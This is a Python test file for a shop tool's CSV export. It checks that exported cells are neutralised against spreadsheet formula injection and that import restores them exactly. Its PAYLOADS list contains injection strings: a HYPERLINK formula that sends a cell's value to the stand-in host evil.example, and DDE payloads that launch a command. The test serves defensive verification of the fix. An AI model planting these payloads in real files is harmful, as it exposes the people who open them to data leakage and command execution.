"""Finding 5: exported cells never start a spreadsheet formula; our own format still round-trips exactly."""

from __future__ import annotations

import csv
from decimal import Decimal

import pytest

from wizard.cli import main
from wizard.domain.model import Product, Variant
from wizard.store.shopfile import ShopFile
from wizard.transfer.echoppe_csv import neutralise, restore

PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1,"clic")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''", "'", "=", "-", "normal", "-4", "+33 6 12"]


def test_exported_cells_are_neutralised_and_imported_back_exactly(tmp_path, capsys):
    src = tmp_path / "a.echoppe"
    with ShopFile.create(src) as shop:
        shop.add_products([
            Product(name=payload, price=Decimal("5"), sku=payload, description=payload, tags=(payload.strip(",") or "t",),
                    option_names=("Taille",), variants=(Variant(options=(("Taille", payload or "x"),), sku="V" + payload),))
            for payload in PAYLOADS
            if payload == payload.strip()  # the import trims names and codes, as it always did
        ])
        before = [(p.name, p.sku, p.description, p.variants[0].options, p.variants[0].sku) for p in shop.products()]
    export = tmp_path / "export.csv"
    assert main(["export", str(src), str(export)]) == 0
    with export.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    for cell in cells:
        if cell and cell[0] in "=+-@\t\r":
            assert cell.lstrip("+-").replace(".", "").replace(",", "").isdigit(), cell
    dst = tmp_path / "b.echoppe"
    ShopFile.create(dst).close()
    assert main(["import", str(dst), str(export)]) == 0
    capsys.readouterr()
    with ShopFile.open(dst) as shop:
        after = [(p.name, p.sku, p.description, p.variants[0].options, p.variants[0].sku) for p in shop.products()]
    assert after == before


@pytest.mark.parametrize("text", [*PAYLOADS, "", "'x", "'-4", "'''=", "1,5"])
def test_restore_inverts_neutralise(text):
    assert restore(neutralise(text)) == text
